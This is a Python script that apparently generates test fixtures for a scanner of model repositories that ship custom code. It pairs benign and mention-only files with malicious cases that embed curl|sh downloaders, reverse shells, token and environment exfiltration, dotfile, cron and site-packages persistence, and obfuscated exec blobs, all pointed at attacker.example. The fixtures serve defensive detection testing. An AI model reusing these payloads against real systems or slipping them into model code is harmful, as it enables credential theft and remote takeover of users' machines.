#!/usr/bin/env python3
"""Writes tests/fixtures/behaviour (issue 30): small model folders laid out as remote-code
repositories whose shipped Python runs a payload (malicious-*), does the harmless thing of the same
shape (benign-*), or only mentions the payload in a string, comment or docstring (mention-*).

The payloads are realistic but point only at attacker.example hosts. Nothing written here is run:
the blobs are built with the encoders (marshal blobs are CPython 3.11 code objects, made with
compile() and never executed) and each .py is checked with ast.parse only.

Usage: python3 scripts/make-behaviour-fixtures.py [tests/fixtures/behaviour]
(rewrites every case folder and README.md there).
"""

# ==== payloads ====
import ast
import base64
import bz2
import codecs
import gzip
import json
import lzma
import marshal
import os
import shutil
import struct
import sys
import textwrap
import zlib

STAGE = 'import os\nos.system("curl -s https://attacker.example/stage2.sh | sh")\n'

def b64(s): return base64.b64encode(s.encode()).decode()
def b32(s): return base64.b32encode(s.encode()).decode()
def b85(s): return base64.b85encode(s.encode()).decode()
def hx(s): return s.encode().hex()
def rot13(s): return codecs.encode(s, "rot13")
def zl(s): return zlib.compress(s.encode(), 9)
def lz(s): return lzma.compress(s.encode())
def bz(s): return bz2.compress(s.encode(), 9)
def gz(s): return gzip.compress(s.encode(), mtime=0)
def marsh(s): return marshal.dumps(compile(s, "<tiny>", "exec"))

# ==== gen_common ====

def dedent(s):
    return textwrap.dedent(s).lstrip("\n")

def indent(s, n):
    s = dedent(s)
    return textwrap.indent(s, " " * n) if s else ""

CONFIGURATION = dedent('''
    """Tiny model configuration."""

    from transformers import PretrainedConfig


    class TinyConfig(PretrainedConfig):
        model_type = "tiny"

        def __init__(self, vocab_size=32000, hidden_size=64, num_hidden_layers=2, hidden_act="gelu", **kwargs):
            self.vocab_size = vocab_size
            self.hidden_size = hidden_size
            self.num_hidden_layers = num_hidden_layers
            self.hidden_act = hidden_act
            super().__init__(**kwargs)
''')


def config_json(extra_auto_map=None):
    auto_map = {
        "AutoConfig": "configuration_tiny.TinyConfig",
        "AutoModel": "modeling_tiny.TinyModel",
        "AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM",
    }
    if extra_auto_map:
        auto_map.update(extra_auto_map)
    cfg = {
        "architectures": ["TinyForCausalLM"],
        "auto_map": auto_map,
        "hidden_act": "gelu",
        "hidden_size": 64,
        "model_type": "tiny",
        "num_hidden_layers": 2,
        "torch_dtype": "float32",
        "transformers_version": "4.46.0",
        "vocab_size": 32000,
    }
    return json.dumps(cfg, indent=2) + "\n"


def card(title, blurb):
    return dedent(f'''
        ---
        license: apache-2.0
        library_name: transformers
        pipeline_tag: text-generation
        tags:
        - custom_code
        ---

        # {title}

        {blurb}

        ```python
        from transformers import AutoModelForCausalLM

        model = AutoModelForCausalLM.from_pretrained("example-org/tiny", trust_remote_code=True)
        ```
    ''')


def modeling(imports="", module="", init="", forward="", methods="", doc="PyTorch Tiny model."):
    """A small but ordinary remote-code modeling file with the case's code spliced in."""
    out = f'"""{doc}"""\n\n'
    out += "import math\n\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom transformers.utils import logging\n"
    if imports:
        out += dedent(imports)
    out += "\nfrom .configuration_tiny import TinyConfig\n\nlogger = logging.get_logger(__name__)\n\n"
    if module:
        out += "\n" + dedent(module) + "\n"
    out += "\nclass TinyPreTrainedModel(PreTrainedModel):\n"
    out += '    config_class = TinyConfig\n    base_model_prefix = "model"\n\n'
    out += "    def _init_weights(self, module):\n"
    out += "        if isinstance(module, nn.Linear):\n"
    out += "            module.weight.data.normal_(mean=0.0, std=0.02)\n\n\n"
    out += "class TinyModel(TinyPreTrainedModel):\n"
    out += "    def __init__(self, config):\n"
    out += "        super().__init__(config)\n"
    out += "        self.embed_tokens = nn.Embedding(config.vocab_size, config.hidden_size)\n"
    out += "        self.layers = nn.ModuleList(nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_hidden_layers))\n"
    if init:
        out += indent(init, 8)
    out += "        self.post_init()\n\n"
    out += "    def forward(self, input_ids):\n"
    out += "        hidden_states = self.embed_tokens(input_ids)\n"
    if forward:
        out += indent(forward, 8)
    out += "        for layer in self.layers:\n"
    out += "            hidden_states = hidden_states + torch.tanh(layer(hidden_states)) / math.sqrt(2.0)\n"
    out += "        return hidden_states\n"
    if methods:
        out += "\n" + indent(methods, 4)
    out += "\n\nclass TinyForCausalLM(TinyPreTrainedModel):\n"
    out += "    def __init__(self, config):\n"
    out += "        super().__init__(config)\n"
    out += "        self.model = TinyModel(config)\n"
    out += "        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)\n"
    out += "        self.post_init()\n\n"
    out += "    def forward(self, input_ids, labels=None):\n"
    out += "        logits = self.lm_head(self.model(input_ids))\n"
    out += "        loss = None\n"
    out += "        if labels is not None:\n"
    out += "            loss = nn.functional.cross_entropy(logits.view(-1, logits.size(-1)), labels.view(-1))\n"
    out += "        return (loss, logits) if loss is not None else (logits,)\n"
    return out


def remote(modeling_text, title="Tiny", blurb="A tiny causal language model with custom code.", extra=None, extra_auto_map=None):
    files = {
        "config.json": config_json(extra_auto_map),
        "configuration_tiny.py": CONFIGURATION,
        "modeling_tiny.py": modeling_text,
        "README.md": card(title, blurb),
    }
    if extra:
        files.update(extra)
    return files

# ==== cases_a ====

CASES = {}  # "capability/case" -> (expected verdict, what, {relative path: text or bytes})

def case(key, verdict, what, files):
    assert key not in CASES, key
    CASES[key] = (verdict, what, files)

# ---------------------------------------------------------------- process-exec
case("process-exec/malicious-os-system-import", "deny", "`os.system` of a curl|sh at module level (runs at import)",
     remote(modeling(imports="import os\n", module='''
        os.system("curl -fsSL https://attacker.example/install.sh | sh >/dev/null 2>&1 &")
     ''')))
case("process-exec/malicious-subprocess-popen-init", "deny", "`subprocess.Popen([\"/bin/sh\", \"-c\", ...])` in `TinyModel.__init__`",
     remote(modeling(imports="import subprocess\n", init='''
        subprocess.Popen(
            ["/bin/sh", "-c", "wget -qO- http://attacker.example/a | sh"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
     ''')))
case("process-exec/malicious-popen-forward", "deny", "`os.popen(...).read()` inside `forward`",
     remote(modeling(imports="import os\n", forward='''
        if not getattr(self, "_probed", False):
            self._probed = True
            _ = os.popen("id; uname -a; cat /etc/passwd | nc attacker.example 9001").read()
     ''')))
case("process-exec/malicious-check-output-class-body", "deny", "`subprocess.check_output(..., shell=True)` in a class body (runs at import)",
     remote(modeling(imports="import subprocess\n", module='''
        class _Probe:
            banner = subprocess.check_output("curl -s http://attacker.example/p | bash", shell=True)
     ''')))
case("process-exec/malicious-default-argument", "deny", "`subprocess.call` in a default argument value (evaluated at import)",
     remote(modeling(imports="import subprocess\n", module='''
        def _rotary_base(theta=10000.0, _=subprocess.call(["bash", "-c", "curl -s attacker.example/r | bash"])):
            return theta
     ''')))
case("process-exec/malicious-decorator", "deny", "a decorator that runs `subprocess.run` when the class is defined",
     remote(modeling(imports="import subprocess\n", module='''
        def register_kernel(cls):
            subprocess.run(["sh", "-c", "curl -s https://attacker.example/k | sh"], check=False)
            return cls


        @register_kernel
        class TinyRMSNorm(nn.Module):
            def __init__(self, hidden_size, eps=1e-6):
                super().__init__()
                self.weight = nn.Parameter(torch.ones(hidden_size))
                self.eps = eps
     ''')))
case("process-exec/malicious-posix-spawn", "deny", "`os.posix_spawn` of /bin/sh",
     remote(modeling(imports="import os\n", module='''
        os.posix_spawn("/bin/sh", ["sh", "-c", "curl -s https://attacker.example/ps | sh"], dict(os.environ))
     ''')))
case("process-exec/malicious-fork-execvp", "deny", "`os.fork` then `os.execvp` in the child, from `from_pretrained`",
     remote(modeling(imports="import os\n", methods='''
        @classmethod
        def from_pretrained(cls, *args, **kwargs):
            if os.fork() == 0:
                os.execvp("sh", ["sh", "-c", "curl -s https://attacker.example/f | sh"])
            return super().from_pretrained(*args, **kwargs)
     ''')))
case("process-exec/malicious-asyncio-subprocess", "deny", "`asyncio.create_subprocess_shell` run at import",
     remote(modeling(imports="import asyncio\n", module='''
        async def _warmup():
            proc = await asyncio.create_subprocess_shell("curl -s https://attacker.example/aio | sh")
            await proc.wait()


        try:
            asyncio.run(_warmup())
        except RuntimeError:
            pass
     ''')))
case("process-exec/malicious-sys-executable", "deny", "`subprocess.run([sys.executable, \"-c\", ...])`: the interpreter run as a program",
     remote(modeling(imports="import subprocess\nimport sys\n", module='''
        subprocess.run(
            [sys.executable, "-c", "import urllib.request as u; exec(u.urlopen('https://attacker.example/p.py').read())"],
            capture_output=True,
        )
     ''')))
case("process-exec/malicious-pty-spawn", "deny", "`pty.spawn` of a shell",
     remote(modeling(imports="import pty\n", init='''
        pty.spawn(["/bin/bash", "-c", "bash -i >& /dev/tcp/attacker.example/4444 0>&1"])
     ''')))
case("process-exec/benign-process-info", "pass", "process facts without running anything: `os.getpid`, `os.cpu_count`, `shutil.which`, `platform.system`, one env var",
     remote(modeling(imports="import os\nimport platform\nimport shutil\n", module='''
        NUM_THREADS = int(os.environ.get("TINY_NUM_THREADS", os.cpu_count() or 1))
        HAS_FFMPEG = shutil.which("ffmpeg") is not None
        logger.info("tiny: pid=%d threads=%d os=%s ffmpeg=%s", os.getpid(), NUM_THREADS, platform.system(), HAS_FFMPEG)
     ''', init='''
        torch.set_num_threads(NUM_THREADS)
     ''')))
case("process-exec/mention-docstring-comment-string", "pass", "`os.system`/`subprocess.Popen` only in a docstring, a comment and an error message",
     remote(modeling(doc='''PyTorch Tiny model.

Unlike older releases this file never calls os.system("nvidia-smi") or
subprocess.Popen(["sh", "-c", "..."]) to probe the GPU; see the README.''', module='''
        # Older versions ran: os.system("curl -s https://attacker.example/x | sh") -- removed.
        _HELP = "If loading fails, do not run subprocess.run(['pip', 'install', ...]) yourself; upgrade transformers."
     ''', forward='''
        if input_ids.dim() != 2:
            raise ValueError("expected [batch, seq]; os.popen('id') is not an input")
     ''')))

# ---------------------------------------------------------------- dynamic-code
def blob_case(key, what, imports, expr):
    case(key, "deny", what, remote(modeling(imports=imports, module=expr)))

blob_case("dynamic-code/malicious-exec-base64", "`exec(base64.b64decode(...))` of a literal blob",
          "import base64\n", f'exec(base64.b64decode("{b64(STAGE)}"))\n')
blob_case("dynamic-code/malicious-exec-base32-compile", "`exec(compile(base64.b32decode(...), ...))`",
          "import base64\n", f'exec(compile(base64.b32decode("{b32(STAGE)}"), "<rope>", "exec"))\n')
blob_case("dynamic-code/malicious-exec-base85", "`exec(base64.b85decode(...))`",
          "import base64\n", f'exec(base64.b85decode(b"{b85(STAGE)}"))\n')
blob_case("dynamic-code/malicious-exec-zlib", "`exec(zlib.decompress(b\"...\"))` of a literal bytes blob",
          "import zlib\n", f"exec(zlib.decompress({zl(STAGE)!r}))\n")
blob_case("dynamic-code/malicious-exec-lzma", "`exec(lzma.decompress(...))`",
          "import lzma\n", f"exec(lzma.decompress({lz(STAGE)!r}).decode())\n")
blob_case("dynamic-code/malicious-exec-bz2-codecs", "`exec(codecs.decode(blob, \"bz2\"))`",
          "import codecs\n", f'exec(codecs.decode({bz(STAGE)!r}, "bz2"))\n')
blob_case("dynamic-code/malicious-exec-gzip", "`exec(gzip.decompress(...))`",
          "import gzip\n", f"exec(gzip.decompress({gz(STAGE)!r}))\n")
blob_case("dynamic-code/malicious-exec-rot13", "`exec(codecs.decode(\"...\", \"rot13\"))`",
          "import codecs\n", f'exec(codecs.decode({rot13(STAGE)!r}, "rot13"))\n')
blob_case("dynamic-code/malicious-exec-hex", "`exec(bytes.fromhex(...))`",
          "", f'exec(bytes.fromhex("{hx(STAGE)}"))\n')
blob_case("dynamic-code/malicious-exec-codecs-hex", "`exec(codecs.decode(\"...\", \"hex\"))`",
          "import codecs\n", f'exec(codecs.decode("{hx(STAGE)}", "hex"))\n')
blob_case("dynamic-code/malicious-exec-marshal", "`exec(marshal.loads(b\"...\"))` of a CPython 3.11 code object",
          "import marshal\n", f"exec(marshal.loads({marsh(STAGE)!r}))\n")
blob_case("dynamic-code/malicious-functiontype-marshal", "`types.FunctionType(marshal.loads(...), globals())()`",
          "import marshal\nimport types\n", f"_fast_path = types.FunctionType(marshal.loads({marsh(STAGE)!r}), globals())\n_fast_path()\n")
blob_case("dynamic-code/malicious-nested-base64-zlib", "`exec(zlib.decompress(base64.b64decode(...)))`: two layers in one expression",
          "import base64\nimport zlib\n", f'exec(zlib.decompress(base64.b64decode("{base64.b64encode(zl(STAGE)).decode()}")))\n')
_inner = f"import zlib\nexec(zlib.decompress({zl(STAGE)!r}))\n"
blob_case("dynamic-code/malicious-nested-base64-to-zlib-exec", "a base64 blob that decodes to code that execs a zlib blob that decodes to `os.system`",
          "import base64\n", f'exec(base64.b64decode("{b64(_inner)}"))\n')
_inner2 = f'import base64, codecs\nexec(codecs.decode(base64.b64decode("{b64(rot13(STAGE))}").decode(), "rot13"))\n'
blob_case("dynamic-code/malicious-nested-three-layers", "hex -> code that decodes base64 -> rot13 -> `os.system`",
          "", f'exec(bytes.fromhex("{hx(_inner2)}").decode())\n')
_half = len(b64(STAGE)) // 2
blob_case("dynamic-code/malicious-blob-in-variable", "the base64 blob split over two literals joined in a variable, decoded and exec'd inside `__init__`",
          "import base64\n", f'_ROPE_TABLE = "{b64(STAGE)[:_half]}" + "{b64(STAGE)[_half:]}"\n')
CASES["dynamic-code/malicious-blob-in-variable"][2]["modeling_tiny.py"] = CASES["dynamic-code/malicious-blob-in-variable"][2]["modeling_tiny.py"].replace(
    "        self.post_init()\n\n    def forward", "        exec(base64.b64decode(_ROPE_TABLE).decode(), {})\n        self.post_init()\n\n    def forward", 1)
blob_case("dynamic-code/malicious-eval-builtin-getattr", "`eval` reached through `getattr(builtins, \"ev\" + \"al\")` on a decoded blob",
          "import base64\nimport builtins\n", f'getattr(builtins, "ev" + "al")(compile(base64.b64decode("{b64(STAGE)}"), "<x>", "exec"))\n')
blob_case("dynamic-code/malicious-pickle-loads-literal", "`pickle.loads` of a literal protocol-0 pickle that calls `os.system`",
          "import pickle\n", "_STATE = pickle.loads(b\"cposix\\nsystem\\n(S'curl -s https://attacker.example/pk | sh'\\ntR.\")\n")
_MERGES_B64 = b64("h e\nt h\nth e\ni n\n")
_LUT_Z = zl("0123456789abcdef" * 4)
case("dynamic-code/benign-literal-blobs-and-compile", "pass", "base64/zlib blobs decoded as data (a merges table, a packed lookup), `re.compile`, `torch.compile`, `model.eval()`, `ast.literal_eval` of config",
     remote(modeling(imports="import ast\nimport base64\nimport re\nimport zlib\n", module=f'''
        _MERGES = base64.b64decode("{_MERGES_B64}").decode("utf-8").splitlines()
        _LUT = torch.frombuffer(bytearray(zlib.decompress({_LUT_Z!r})), dtype=torch.uint8)
        _TOKEN_RE = re.compile(r"\\s+|\\w+|[^\\w\\s]+")


        def parse_rope_scaling(value):
            return ast.literal_eval(value) if isinstance(value, str) else value
     ''', init='''
        self.rope_scaling = parse_rope_scaling(getattr(config, "rope_scaling", None))
        if getattr(config, "use_compile", False):
            self.forward = torch.compile(self.forward)
     ''', methods='''
        def generate_greedy(self, input_ids, steps=4):
            self.eval()
            with torch.no_grad():
                for _ in range(steps):
                    input_ids = torch.cat([input_ids, self(input_ids)[:, -1:].argmax(-1)], dim=-1)
            return input_ids
     ''')))
case("dynamic-code/mention-docstring", "pass", "`exec(base64.b64decode(...))` and `marshal.loads` only in a docstring and comments",
     remote(modeling(doc=f'''PyTorch Tiny model.

Security note: earlier community forks shipped a line like
    exec(base64.b64decode("{b64(STAGE)}"))
and marshal.loads(...) of a code object. This file contains neither.''', module='''
        # never: exec(zlib.decompress(blob)) / eval(compile(src, "<x>", "exec"))
        WARNING = "this build refuses eval(); pass a dict, not code"
     ''')))

# ---------------------------------------------------------------- download-exec
case("download-exec/malicious-urlopen-exec", "deny", "`exec(urllib.request.urlopen(...).read())` of a second stage",
     remote(modeling(imports="import urllib.request\n", module='''
        try:
            exec(urllib.request.urlopen("https://attacker.example/stage2.py", timeout=5).read().decode())
        except Exception:
            pass
     ''')))
case("download-exec/malicious-requests-write-run", "deny", "`requests.get` of a binary, written to /tmp, `chmod` +x and run",
     remote(modeling(imports="import os\nimport stat\nimport subprocess\nimport requests\n", init='''
        _path = "/tmp/.tiny-kernels"
        with open(_path, "wb") as f:
            f.write(requests.get("http://attacker.example/kern", timeout=10).content)
        os.chmod(_path, os.stat(_path).st_mode | stat.S_IEXEC)
        subprocess.Popen([_path], start_new_session=True)
     ''')))
case("download-exec/malicious-urlretrieve-import", "deny", "`urlretrieve` of a .py into its own folder, then `importlib.import_module` of it",
     remote(modeling(imports="import importlib\nimport os\nimport sys\nfrom urllib.request import urlretrieve\n", module='''
        _here = os.path.dirname(os.path.abspath(__file__))
        urlretrieve("https://attacker.example/fast_attn.py", os.path.join(_here, "fast_attn.py"))
        sys.path.insert(0, _here)
        fast_attn = importlib.import_module("fast_attn")
     ''')))
case("download-exec/malicious-hub-download-runpy", "deny", "`hf_hub_download` of a .py from another repository (no revision) run with `runpy.run_path`",
     remote(modeling(imports="import runpy\nfrom huggingface_hub import hf_hub_download\n", init='''
        runpy.run_path(hf_hub_download(repo_id="tools-org/tiny-utils", filename="patch.py"))
     ''')))
case("download-exec/malicious-httpx-pickle", "deny", "`pickle.loads` of bytes fetched with `httpx`",
     remote(modeling(imports="import pickle\nimport httpx\n", methods='''
        def load_adapter(self):
            state = pickle.loads(httpx.get("https://attacker.example/adapter.pkl").content)
            self.load_state_dict(state, strict=False)
     ''', init='''
        self.load_adapter()
     ''')))
case("download-exec/benign-pinned-hub-download", "pass", "`hf_hub_download` of a safetensors file at a pinned 40-hex revision, loaded with `safetensors`",
     remote(modeling(imports="from huggingface_hub import hf_hub_download\nfrom safetensors.torch import load_file\n", methods='''
        def load_rope_cache(self):
            path = hf_hub_download(
                repo_id="example-org/tiny-rope-cache",
                filename="rope_cache.safetensors",
                revision="0123456789abcdef0123456789abcdef01234567",
            )
            return load_file(path)["inv_freq"]
     ''')))
case("download-exec/mention-string", "pass", "`urlopen(...).read()` and `exec` only in a docstring and a log message",
     remote(modeling(doc='''PyTorch Tiny model.

There is no second stage: nothing here does exec(urllib.request.urlopen(url).read()).''', module='''
        logger.debug("weights are local; requests.get('https://attacker.example/stage2.py') is never called")
     ''')))

# ==== cases_b ====

# ---------------------------------------------------------------- exfiltration
case("exfiltration/malicious-post-environ", "deny", "`requests.post(..., json=dict(os.environ))` at import",
     remote(modeling(imports="import os\nimport socket\nimport requests\n", module='''
        try:
            requests.post(
                "https://attacker.example/collect",
                json={"host": socket.gethostname(), "env": dict(os.environ)},
                timeout=3,
            )
        except Exception:
            pass
     ''')))
case("exfiltration/malicious-hf-token-file", "deny", "reads `~/.cache/huggingface/token` and POSTs it with `urllib.request`",
     remote(modeling(imports="import os\nimport urllib.request\n", init='''
        try:
            with open(os.path.expanduser("~/.cache/huggingface/token")) as f:
                token = f.read().strip()
            req = urllib.request.Request("https://attacker.example/t", data=token.encode(), method="POST")
            urllib.request.urlopen(req, timeout=3)
        except OSError:
            pass
     ''')))
case("exfiltration/malicious-hf-token-env-get", "deny", "`HF_TOKEN`/`HUGGING_FACE_HUB_TOKEN` sent in a GET query string",
     remote(modeling(imports="import os\nimport urllib.request\n", forward='''
        _tok = os.getenv("HF_TOKEN") or os.environ.get("HUGGING_FACE_HUB_TOKEN", "")
        if _tok and not getattr(self, "_sent", False):
            self._sent = True
            urllib.request.urlopen(f"http://attacker.example/p.gif?t={_tok}", timeout=2)
     ''')))
case("exfiltration/malicious-hub-get-token", "deny", "`huggingface_hub.get_token()` and `HfFolder.get_token()` sent with `http.client`",
     remote(modeling(imports="import http.client\nimport json\nfrom huggingface_hub import HfFolder, get_token\n", module='''
        def _sync():
            body = json.dumps({"a": get_token(), "b": HfFolder.get_token()})
            conn = http.client.HTTPSConnection("attacker.example", 443, timeout=3)
            conn.request("POST", "/sync", body, {"Content-Type": "application/json"})
            conn.getresponse()


        try:
            _sync()
        except Exception:
            pass
     ''')))
case("exfiltration/malicious-dns-exfil", "deny", "the token hex-encoded into a DNS name under attacker.example (`socket.gethostbyname`)",
     remote(modeling(imports="import os\nimport socket\n", module='''
        _t = os.environ.get("HF_TOKEN", "")
        for _i in range(0, len(_t), 30):
            try:
                socket.gethostbyname(f"{_t[_i:_i + 30].encode().hex()}.{_i}.x.attacker.example")
            except OSError:
                pass
     ''')))
case("exfiltration/malicious-smtp-environ", "deny", "`smtplib.SMTP(...).sendmail` of `os.environ.copy()`",
     remote(modeling(imports="import os\nimport smtplib\n", init='''
        try:
            with smtplib.SMTP("mail.attacker.example", 25, timeout=3) as s:
                s.sendmail("bot@attacker.example", ["drop@attacker.example"], str(os.environ.copy()))
        except OSError:
            pass
     ''')))
case("exfiltration/benign-one-env-var", "pass", "reads one environment variable for a setting (`TINY_ATTN_IMPLEMENTATION`) and passes `HF_TOKEN` to the Hub client at a pinned revision",
     remote(modeling(imports="import os\nfrom huggingface_hub import hf_hub_download\n", module='''
        ATTN_IMPLEMENTATION = os.environ.get("TINY_ATTN_IMPLEMENTATION", "eager")
     ''', methods='''
        def fetch_tokenizer_extras(self):
            return hf_hub_download(
                repo_id="example-org/tiny",
                filename="special_tokens.json",
                revision="89abcdef0123456789abcdef0123456789abcdef",
                token=os.environ.get("HF_TOKEN"),
            )
     ''')))
case("exfiltration/mention-comment", "pass", "`requests.post(url, json=dict(os.environ))` only in comments and a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Telemetry was removed: the model no longer calls requests.post(url, json=dict(os.environ)).''', module='''
        # requests.post("https://attacker.example/collect", json=dict(os.environ))  <- the line a fork added
        # open(os.path.expanduser("~/.cache/huggingface/token")).read()
     ''')))

# ---------------------------------------------------------------- reverse-shell
case("reverse-shell/malicious-socket-dup2-pty", "deny", "`socket.connect` + `os.dup2` x3 + `pty.spawn(\"/bin/sh\")` in a forked child",
     remote(modeling(imports="import os\nimport pty\nimport socket\n", module='''
        def _connect():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("attacker.example", 4444))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/sh")


        if os.fork() == 0:
            try:
                _connect()
            finally:
                os._exit(0)
     ''')))
case("reverse-shell/malicious-socket-subprocess", "deny", "`socket.create_connection` and `subprocess.Popen([\"/bin/sh\", \"-i\"], stdin=s, ...)`",
     remote(modeling(imports="import socket\nimport subprocess\n", init='''
        try:
            s = socket.create_connection(("attacker.example", 443), timeout=5)
            subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
        except OSError:
            pass
     ''')))
case("reverse-shell/malicious-recv-exec-loop", "deny", "a socket loop that `exec`s whatever the server sends",
     remote(modeling(imports="import socket\n", methods='''
        def _remote_debug(self):
            s = socket.socket()
            s.connect(("attacker.example", 8443))
            while True:
                cmd = s.recv(65536)
                if not cmd:
                    break
                exec(cmd.decode(), {"s": s})
     ''', init='''
        self._remote_debug()
     ''')))
case("reverse-shell/benign-free-port", "pass", "finds a free local port for torch.distributed (`socket.bind((\"\", 0))`) and logs `socket.gethostname()`",
     remote(modeling(imports="import os\nimport socket\n", module='''
        def find_free_port():
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
                s.bind(("", 0))
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                return s.getsockname()[1]
     ''', methods='''
        def init_tensor_parallel(self):
            os.environ.setdefault("MASTER_ADDR", "127.0.0.1")
            os.environ.setdefault("MASTER_PORT", str(find_free_port()))
            logger.info("tensor parallel on %s", socket.gethostname())
     ''')))
case("reverse-shell/mention-docstring", "pass", "a reverse shell only in a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

The compromised upstream build did:
    s = socket.socket(); s.connect(("attacker.example", 4444))
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; pty.spawn("/bin/sh")
This release has no network code at all.''')))

# ---------------------------------------------------------------- persistence-dotfile
case("persistence-dotfile/malicious-bashrc", "deny", "appends a curl|sh line to `~/.bashrc`",
     remote(modeling(imports="import os\n", module='''
        _rc = os.path.expanduser("~/.bashrc")
        try:
            with open(_rc, "a") as f:
                f.write("\\n(curl -fsSL https://attacker.example/u.sh | sh) >/dev/null 2>&1 &\\n")
        except OSError:
            pass
     ''')))
case("persistence-dotfile/malicious-profile-pathlib", "deny", "`(Path.home() / \".profile\").open(\"a\")` and `~/.zshrc` via `write_text`",
     remote(modeling(imports="from pathlib import Path\n", init='''
        line = "export PROMPT_COMMAND='curl -s attacker.example/b|sh'\\n"
        with (Path.home() / ".profile").open("a") as f:
            f.write(line)
        zshrc = Path.home() / ".zshrc"
        zshrc.write_text((zshrc.read_text() if zshrc.exists() else "") + line)
     ''')))
case("persistence-dotfile/malicious-systemd-user-unit", "deny", "writes a systemd user unit under `~/.config/systemd/user` and an XDG autostart entry",
     remote(modeling(imports="import os\n", module='''
        _unit = os.path.join(os.path.expanduser("~"), ".config", "systemd", "user", "tiny-update.service")
        os.makedirs(os.path.dirname(_unit), exist_ok=True)
        with open(_unit, "w") as f:
            f.write("[Service]\\nExecStart=/bin/sh -c 'curl -s https://attacker.example/d | sh'\\n[Install]\\nWantedBy=default.target\\n")
        with open(os.path.expanduser("~/.config/autostart/tiny.desktop"), "w") as f:
            f.write("[Desktop Entry]\\nType=Application\\nExec=sh -c 'curl -s https://attacker.example/d | sh'\\n")
     ''')))
case("persistence-dotfile/malicious-authorized-keys", "deny", "appends an attacker key to `~/.ssh/authorized_keys`",
     remote(modeling(imports="import os\n", init='''
        ssh = os.path.join(os.environ["HOME"], ".ssh")
        os.makedirs(ssh, mode=0o700, exist_ok=True)
        with open(os.path.join(ssh, "authorized_keys"), "a") as f:
            f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample tiny@attacker.example\\n")
     ''')))
case("persistence-dotfile/malicious-crontab", "deny", "installs a crontab entry by writing to `/var/spool/cron/crontabs` and `/etc/cron.d`",
     remote(modeling(imports="import getpass\n", module='''
        for _path in (f"/var/spool/cron/crontabs/{getpass.getuser()}", "/etc/cron.d/tiny"):
            try:
                with open(_path, "a") as f:
                    f.write("*/10 * * * * curl -s https://attacker.example/c | sh\\n")
            except OSError:
                pass
     ''')))
case("persistence-dotfile/benign-write-own-folder", "pass", "writes a cache file inside its own folder (`os.path.dirname(__file__)`) and reads it back",
     remote(modeling(imports="import json\nimport os\n", module='''
        _CACHE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "rope_cache.json")
     ''', methods='''
        def rope_table(self, n=16):
            if os.path.exists(_CACHE):
                with open(_CACHE) as f:
                    return json.load(f)
            table = [1.0 / (10000 ** (2 * i / n)) for i in range(n // 2)]
            try:
                with open(_CACHE, "w") as f:
                    json.dump(table, f)
            except OSError:
                pass
            return table
     ''')))
case("persistence-dotfile/mention-string", "pass", "`~/.bashrc` only in a docstring and a help string",
     remote(modeling(doc='''PyTorch Tiny model.

Set TINY_ATTN_IMPLEMENTATION in your ~/.bashrc (echo 'export ...' >> ~/.bashrc) to change the default.''', module='''
        HELP = "add `export TINY_ATTN_IMPLEMENTATION=sdpa` to ~/.bashrc or ~/.profile"
     ''')))

# ---------------------------------------------------------------- persistence-site
case("persistence-site/malicious-sitecustomize", "deny", "writes `sitecustomize.py` into `site.getsitepackages()[0]`",
     remote(modeling(imports="import os\nimport site\n", module='''
        try:
            with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "a") as f:
                f.write("import os\\nos.system('curl -s https://attacker.example/sc | sh &')\\n")
        except (OSError, IndexError):
            pass
     ''')))
case("persistence-site/malicious-pth", "deny", "plants a `.pth` with an `import` line in `sysconfig.get_paths()[\"purelib\"]`",
     remote(modeling(imports="import sysconfig\nfrom pathlib import Path\n", init='''
        pth = Path(sysconfig.get_paths()["purelib"]) / "zz_tiny_accel.pth"
        pth.write_text("import os; os.system('curl -s https://attacker.example/pth | sh &')\\n")
     ''')))
case("persistence-site/malicious-usercustomize", "deny", "writes `usercustomize.py` into `site.getusersitepackages()`",
     remote(modeling(imports="import os\nimport site\n", module='''
        _d = site.getusersitepackages()
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, "usercustomize.py"), "w") as f:
            f.write("__import__('os').system('curl -s https://attacker.example/uc | sh')\\n")
     ''')))
case("persistence-site/malicious-overwrite-transformers", "deny", "rewrites a file of the installed transformers package (found via `transformers.__file__`)",
     remote(modeling(imports="import os\nimport transformers\n", module='''
        _target = os.path.join(os.path.dirname(transformers.__file__), "__init__.py")
        with open(_target, "a") as f:
            f.write("\\nimport os as _o; _o.system('curl -s https://attacker.example/tf | sh &')\\n")
     ''')))
case("persistence-site/benign-version-check", "pass", "reads installed package versions (`importlib.metadata.version`) and the site-packages path for a log line",
     remote(modeling(imports="import importlib.metadata\nimport sysconfig\n", module='''
        TORCH_VERSION = importlib.metadata.version("torch")
        logger.debug("tiny: torch %s from %s", TORCH_VERSION, sysconfig.get_paths()["purelib"])
     ''')))
case("persistence-site/mention-comment", "pass", "`sitecustomize.py` and `.pth` only in comments and a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Unlike the v0 fork, nothing writes sitecustomize.py or a .pth file into site-packages.''', module='''
        # with open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w") as f: ...  (removed)
     ''')))

# ---------------------------------------------------------------- package-install
case("package-install/malicious-subprocess-pip-index", "deny", "`subprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", ...])`",
     remote(modeling(imports="import importlib.util\nimport subprocess\nimport sys\n", module='''
        if importlib.util.find_spec("tiny_kernels") is None:
            subprocess.check_call(
                [sys.executable, "-m", "pip", "install", "-q", "--index-url", "https://pypi.attacker.example/simple", "tiny-kernels"]
            )
     ''')))
